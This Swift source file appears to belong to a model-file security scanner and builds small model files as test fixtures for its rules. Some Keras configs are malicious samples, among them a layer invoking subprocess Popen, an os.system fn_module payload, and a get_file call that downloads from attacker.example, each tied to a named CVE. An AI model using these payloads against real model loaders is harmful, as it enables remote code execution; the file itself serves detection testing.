import Foundation
/// Tiny writers of model formats for rule examples and tests (never used to load anything).
public enum FormatBuilders {
    static func le(_ v: UInt64, _ n: Int) -> [UInt8] { (0..<n).map { UInt8(truncatingIfNeeded: v >> (8 * UInt64($0))) } }

    /// A safetensors file from a header JSON text and a data section.
    public static func safetensors(header: String, data: [UInt8]) -> [UInt8] {
        let h = Array(header.utf8)
        return le(UInt64(h.count), 8) + h + data
    }

    /// A valid one-tensor safetensors file (`weight`: F32[2]).
    public static var tinySafetensors: [UInt8] {
        safetensors(header: #"{"__metadata__":{"format":"pt"},"weight":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}"#,
                    data: [0, 0, 128, 63, 0, 0, 0, 64])
    }

    /// A GGUF v3 file with string metadata and no tensors.
    public static func gguf(strings: [(String, String)]) -> [UInt8] {
        var out = Array("GGUF".utf8) + le(3, 4) + le(0, 8) + le(UInt64(strings.count), 8)
        for (k, v) in strings {
            out += le(UInt64(k.utf8.count), 8) + Array(k.utf8) + le(8, 4)
            out += le(UInt64(v.utf8.count), 8) + Array(v.utf8)
        }
        return out
    }

    // MARK: - Protobuf

    static func varint(_ v: UInt64) -> [UInt8] {
        var v = v
        var out: [UInt8] = []
        repeat {
            var b = UInt8(v & 0x7F)
            v >>= 7
            if v != 0 { b |= 0x80 }
            out.append(b)
        } while v != 0
        return out
    }
    static func field(_ n: Int, _ payload: [UInt8]) -> [UInt8] { varint(UInt64(n << 3 | 2)) + varint(UInt64(payload.count)) + payload }
    static func field(_ n: Int, _ s: String) -> [UInt8] { field(n, Array(s.utf8)) }
    static func field(_ n: Int, int v: UInt64) -> [UInt8] { varint(UInt64(n << 3)) + varint(v) }

    /// An ONNX model whose single initializer keeps its data in an external file at `location`.
    public static func onnx(externalLocation location: String) -> [UInt8] {
        let entry = field(1, "location") + field(2, location)
        let tensor = field(8, "w") + field(13, entry) + field(14, int: 1)
        let graph = field(2, "g") + field(5, tensor)
        return field(1, int: 8) + field(2, "bulwark-example") + field(7, graph)
    }

    /// One ONNX NodeProto (input `x`, output `y`).
    static func onnxNode(_ op: String, domain: String, subgraph: [UInt8]? = nil) -> [UInt8] {
        var n = field(1, "x") + field(2, "y") + field(3, op.lowercased()) + field(4, op)
        if !domain.isEmpty { n += field(7, domain) }
        if let g = subgraph { n += field(5, field(1, "then_branch") + field(20, int: 5) + field(6, g)) }
        return n
    }

    /// An ONNX model with the given nodes (op type, domain), opset imports, model-local functions
    /// (domain, name, their nodes) and nodes nested in an `If` subgraph.
    public static func onnx(nodes: [(String, String)], opsets: [String] = ["", "com.microsoft"],
                            functions: [(domain: String, name: String, nodes: [(String, String)])] = [],
                            subgraphNodes: [(String, String)] = []) -> [UInt8] {
        var graph = field(2, "main_graph")
        for (op, d) in nodes { graph += field(1, onnxNode(op, domain: d)) }
        if !subgraphNodes.isEmpty {
            var sub = field(2, "then")
            for (op, d) in subgraphNodes { sub += field(1, onnxNode(op, domain: d)) }
            graph += field(1, onnxNode("If", domain: "", subgraph: sub))
        }
        var out = field(1, int: 8) + field(2, "pytorch") + field(3, "2.5.0") + field(7, graph)
        for d in opsets { out += field(8, (d.isEmpty ? [] : field(1, d)) + field(2, int: d.isEmpty ? 17 : 1)) }
        for f in functions {
            var fp = field(1, f.name) + field(4, "x") + field(5, "y")
            for (op, d) in f.nodes { fp += field(7, onnxNode(op, domain: d)) }
            fp += field(9, field(2, int: 17)) + field(10, f.domain)
            out += field(25, fp)
        }
        return out
    }

    /// A TensorFlow SavedModel with one node per op name.
    public static func savedModel(ops: [String]) -> [UInt8] {
        var graph: [UInt8] = []
        for (i, op) in ops.enumerated() { graph += field(1, field(1, "node\(i)") + field(2, op)) }
        let meta = field(2, graph)
        return field(1, int: 1) + field(2, meta)
    }

    /// A Keras v3 `.keras` archive around a config.json text.
    public static func keras(config: String) -> [UInt8] {
        var z = ZipBuilder()
        z.add("metadata.json", Array(#"{"keras_version": "3.3.3"}"#.utf8))
        z.add("config.json", Array(config.utf8))
        z.add("model.weights.h5", [0x89, 0x48, 0x44, 0x46, 0x0D, 0x0A, 0x1A, 0x0A])
        return z.build()
    }

    /// Bytes shaped like a legacy HDF5 Keras file: signature, padding, then the model_config JSON.
    public static func h5(modelConfig: String) -> [UInt8] {
        [0x89, 0x48, 0x44, 0x46, 0x0D, 0x0A, 0x1A, 0x0A] + [UInt8](repeating: 0, count: 120) + Array(modelConfig.utf8) + [0, 0, 0, 0]
    }

    public static let kerasLambdaConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO", "defaults": null, "closure": null}}}, "registered_name": null}]}}"#
    public static let kerasDenseConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 2}, "registered_name": null}]}}"#
    public static let kerasForeignModuleConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": null}]}}"#

    /// A `saved_model.pb` without `saved_model_schema_version` (it starts with its meta graph).
    public static func savedModelWithoutVersion(ops: [String]) -> [UInt8] {
        Array(savedModel(ops: ops).dropFirst(2))
    }

    /// A Keras SavedModel `keras_metadata.pb`: one `SavedObject` node per layer config JSON.
    public static func kerasMetadata(layers: [String]) -> [UInt8] {
        layers.enumerated().flatMap { i, json in field(1, field(3, "layer-\(i)") + field(4, "_tf_keras_layer") + field(5, json)) }
    }

    /// A `.keras` zip with only `config.json` (no `metadata.json`, no weights): Keras still loads it.
    public static func kerasConfigOnly(config: String) -> [UInt8] {
        var z = ZipBuilder()
        z.add("config.json", Array(config.utf8))
        return z.build()
    }

    public static let kerasLambdaLayerJSON = #"{"name": "lambda", "class_name": "Lambda", "config": {"name": "lambda", "function": {"class_name": "__tuple__", "items": ["4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO", null, null]}, "function_type": "lambda"}}"#
    public static let kerasDenseLayerJSON = #"{"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}"#
    /// A Lambda whose function is `system` from a module named in `fn_module` (CVE-2025-1550 variant).
    public static let kerasFnModuleConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, "function": "system", "fn_module": "os", "function_type": "function"}, "registered_name": null}]}}"#
    /// `keras.utils.get_file` called with a URL while the config is deserialised (CVE-2025-8747).
    public static let kerasGetFileConfig = #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 1, "kernel_initializer": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file", "args": {"fname": "x.py", "origin": "https://attacker.example/payload.py", "cache_dir": "/tmp"}}}, "registered_name": null}]}}"#
    /// `TorchModuleWrapper` whose `module` is a base64 `torch.save` (CVE-2025-49655).
    public static func kerasTorchModuleWrapperConfig(moduleBytes: [UInt8]) -> String {
        let b64 = Data(moduleBytes).base64EncodedString()
        return #"{"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [{"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_module_wrapper", "module": ""# + b64 + #""}, "registered_name": null}]}}"#
    }
}
